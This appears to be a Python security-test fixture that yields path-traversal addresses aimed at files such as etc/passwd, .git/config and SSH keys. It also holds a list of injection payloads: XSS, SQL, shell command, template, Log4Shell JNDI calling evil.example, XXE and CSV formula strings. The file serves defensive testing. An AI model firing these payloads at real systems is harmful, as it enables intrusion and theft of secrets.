"""Hostile input: paths and words."""

from collections.abc import Iterator

from model.samples import samples
from tests.api.raw import form

PHOTO = samples()[2].read()
TYPE = b"multipart/form-data; boundary=x"
FILE = b'Content-Disposition: form-data; name="photo"; filename="a.jpg"'
GOOD = form(FILE + b"\r\n\r\n" + PHOTO)


SECRETS = ("etc/passwd", "bundle.json", "streamlit_app.py", ".git/config", "records.sqlite")
UP = (
    r".. %2e%2e %2E%2E ..%2f.. %2e%2e%2f%2e%2e %252e%252e ..%5c.. ..\.. %c0%ae%c0%ae "
    "%ef%bc%8e%ef%bc%8e .... ..%00 ..;"
).split()


def addresses() -> Iterator[str]:
    """Yield paths that would leave their folder."""
    for up in UP:
        for secret in SECRETS:
            yield f"models/{up}/{up}/{up}/{up}/{secret}"
        yield f"models/imagenet/{up}/{up}/settings.py"
        yield f"models/imagenet/000000000000/{up}%2f{up}%2fsettings.py"
    yield from (
        "models//etc/passwd",
        "models/%2fetc%2fpasswd",
        "models/imagenet/000000000000//etc/passwd",
        "models/imagenet%00.json",
        "models/file:%2f%2f%2fetc%2fpasswd",
        "models/C:%5cwindows%5cwin.ini",
        "models/~root/.ssh/id_rsa",
        "models/imagenet/current/graph.onnx",
        "models/.new-abc/x",
        "models/imagenet/../../../../etc/passwd",
        "docs-files/../../../../../../etc/passwd",
        "docs-files/..%2f..%2f..%2fetc%2fpasswd",
        "docs-files/%2e%2e/__init__.py",
    )


WORDS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "<svg/onload=alert(1)>",
    "'; DROP TABLE corrections; --",
    "$(touch marker)",
    "; touch marker",
    "{{7*7}}",
    "${7*7}",
    "${jndi:ldap://evil.example/a}",
    "{0.__class__}",
    "%s%s%s%n",
    "=cmd|' /C calc'!A0",
    "..\\..\\windows",
    "file:///etc/passwd",
    "x\r\nSet-Cookie: a=b",
    "x\r\n\r\n<html>",
    "x\x00y",
    "\u202egpj.exe",
    "\ufeffword",
    "A\u0300" * 100,
    "\U0001f98a",
    "null",
    "__proto__",
    '<!--#exec cmd="ls"-->',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    "a" * 5000,
)
